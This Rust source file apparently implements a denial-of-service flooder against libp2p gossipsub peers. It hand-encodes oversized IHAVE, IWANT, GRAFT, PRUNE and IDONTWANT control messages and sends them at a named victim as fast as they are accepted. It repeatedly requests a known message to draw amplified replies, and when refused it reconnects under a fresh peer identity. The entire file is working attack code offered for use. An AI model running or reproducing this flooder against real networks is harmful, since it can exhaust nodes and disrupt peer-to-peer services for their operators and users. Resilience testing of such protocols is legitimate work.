//! What no honest gossip program sends: control messages of all kinds, as long as fit, as fast as they are taken.
//!
//! Written by hand, field by field, as the protobuf of gossipsub has them.

use futures::{AsyncReadExt as _, AsyncWriteExt as _, StreamExt as _};
use libp2p::swarm::SwarmEvent;
use libp2p::{Multiaddr, PeerId, StreamProtocol, SwarmBuilder, noise, tcp, yamux};
use libp2p_stream::Behaviour;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

/// The version that has all of them.
const GOSSIP: StreamProtocol = StreamProtocol::new("/meshsub/1.2.0");
/// Ids in one message: as many as are read of it, and more than a message may have.
const IDS: [u64; 3] = [8, 200, 1_500];
/// What may be under way to who reads nothing: the window of a stream.
const WINDOW: u64 = 256 * 1024;
/// Who is not read from for so long goes on under another name.
const UNREAD: Duration = Duration::from_millis(500);
/// Time to say hello again under another name.
const PAUSE: Duration = Duration::from_millis(50);

/// Control messages that were taken, and bytes that came back.
pub static SENT: AtomicU64 = AtomicU64::new(0);
/// See [`SENT`].
pub static CAME: AtomicU64 = AtomicU64::new(0);
/// Bytes beyond what a stream holds unread: so much was read for sure.
pub static READ: AtomicU64 = AtomicU64::new(0);

/// Where to flood, and with what.
#[derive(Clone)]
pub struct Aim {
    pub target: Multiaddr,
    pub victim: PeerId,
    pub topic: String,
    /// The name of a message that the victim has: asked for again and again, under ever new names.
    pub message: Vec<u8>,
    /// Also messages that are too long, which end the stream.
    pub long: bool,
}

fn varint(mut n: usize, out: &mut Vec<u8>) {
    while n >= 0x80 {
        out.push((n & 0x7f) as u8 | 0x80);
        n >>= 7;
    }
    out.push(n as u8);
}

/// A field of bytes.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    let mut out = vec![number << 3 | 2];
    varint(bytes.len(), &mut out);
    [out, bytes.to_vec()].concat()
}

fn id(seed: u64) -> Vec<u8> {
    blake3::hash(&seed.to_le_bytes()).as_bytes().to_vec()
}

/// An RPC with one kind of control message.
fn control(aim: &Aim, seed: u64) -> Vec<u8> {
    let kinds = if aim.long { IDS.len() as u64 } else { 2 };
    let count = IDS[(seed / 5 % kinds) as usize];
    let ids = |number: u8| -> Vec<u8> {
        (0..count).flat_map(|n| field(number, &id(seed << 16 | n))).collect()
    };
    let topic = field(1, aim.topic.as_bytes());
    let body = match seed % 5 {
        // IHAVE, IWANT, GRAFT, PRUNE with peers to go to, IDONTWANT.
        0 => field(1, &[topic, ids(2)].concat()),
        1 => field(2, &[field(1, &aim.message), ids(1)].concat()),
        2 => (0..count).flat_map(|_| field(3, &topic)).collect(),
        3 => {
            let peer = field(2, &field(1, &PeerId::random().to_bytes()));
            field(4, &[topic, peer.repeat(16)].concat())
        }
        _ => field(5, &ids(1)),
    };
    let rpc = field(3, &body);
    let mut framed = Vec::new();
    varint(rpc.len(), &mut framed);
    [framed, rpc].concat()
}

/// One name's life: until it is refused.
async fn live(aim: &Aim, seed: &mut u64) -> Option<()> {
    let mut swarm = SwarmBuilder::with_new_identity()
        .with_tokio()
        .with_tcp(tcp::Config::default(), noise::Config::new, yamux::Config::default)
        .ok()?
        .with_behaviour(|_| Behaviour::new())
        .ok()?
        // Without any the connection would end while nothing is open on it.
        .with_swarm_config(|config| config.with_idle_connection_timeout(Duration::from_secs(30)))
        .build();
    let mut streams = swarm.behaviour().new_control();
    // What it sends us on a stream of its own is counted: the answers to IWANT.
    let mut incoming = streams.accept(GOSSIP).ok()?;
    swarm.dial(aim.target.clone()).ok()?;
    let talk = async {
        let mut out = loop {
            match streams.open_stream(aim.victim, GOSSIP).await {
                Ok(stream) => break stream,
                Err(_) => tokio::time::sleep(PAUSE).await,
            }
        };
        let subscribe = field(1, &[vec![1 << 3, 1], field(2, aim.topic.as_bytes())].concat());
        out.write_all(&[vec![subscribe.len() as u8], subscribe].concat()).await.ok()?;
        let mut sent = 0;
        loop {
            *seed += 1;
            let message = control(aim, *seed);
            tokio::time::timeout(UNREAD, out.write_all(&message)).await.ok()?.ok()?;
            SENT.fetch_add(1, Relaxed);
            sent += message.len() as u64;
            if sent > WINDOW {
                READ.fetch_add((sent - WINDOW).min(message.len() as u64), Relaxed);
            }
        }
    };
    let hear = async {
        let (_, mut stream) = incoming.next().await?;
        let mut bytes = [0; 4_096];
        loop {
            let came = stream.read(&mut bytes).await.ok().filter(|came| *came > 0)?;
            CAME.fetch_add(came as u64, Relaxed);
        }
    };
    tokio::pin!(talk);
    tokio::pin!(hear);
    let mut heard = false;
    loop {
        tokio::select! {
            ended = &mut talk => return ended,
            ended = &mut hear, if !heard => {
                let _: Option<()> = ended;
                heard = true;
            }
            event = swarm.select_next_some() => {
                let ends = matches!(
                    event,
                    SwarmEvent::ConnectionClosed { .. } | SwarmEvent::OutgoingConnectionError { .. }
                );
                if ends {
                    return None;
                }
            }
        }
    }
}

/// Floods until it is ended.
pub async fn run(aim: Aim, mut seed: u64) {
    loop {
        let _ = live(&aim, &mut seed).await;
        tokio::time::sleep(PAUSE).await;
    }
}
